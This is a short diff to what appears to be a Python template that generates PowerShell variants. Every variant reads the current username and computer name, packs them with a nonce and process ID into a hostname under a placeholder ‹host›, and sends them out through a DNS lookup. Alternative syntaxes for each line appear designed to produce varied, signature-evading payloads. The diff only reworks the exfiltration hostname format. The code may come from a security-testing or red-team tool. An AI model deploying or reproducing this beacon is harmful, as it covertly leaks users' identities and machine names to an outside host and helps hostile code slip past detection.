@@ -10,8 +10,8 @@ _TEMPLATE = """\
 try {
 	$@who = «$env:USERNAME¦[Environment]::UserName» -replace '[^A-Za-z0-9-]', ''
 	$@at = «$env:COMPUTERNAME¦[Environment]::MachineName»
-	$@name = «"c$@at.UN.u$@who.CMD.‹nonce›$PID.‹host›"¦'c{0}.UN.u{1}.CMD.‹nonce›{2}.‹host›' -f \
-$@at, $@who, $PID»
+	$@name = «"$@at.$@who.‹nonce›$PID.‹host›"¦"$@who.$@at.‹nonce›$PID.‹host›"¦\
+'{0}.{1}.‹nonce›{2}.‹host›' -f $@at, $@who, $PID»
 	«[void][Net.Dns]::BeginGetHostAddresses($@name, $null, $null)\
 ¦$null = [Net.Dns]::GetHostAddressesAsync($@name)\
 ¦[Net.Dns]::GetHostAddressesAsync($@name) | Out-Null»
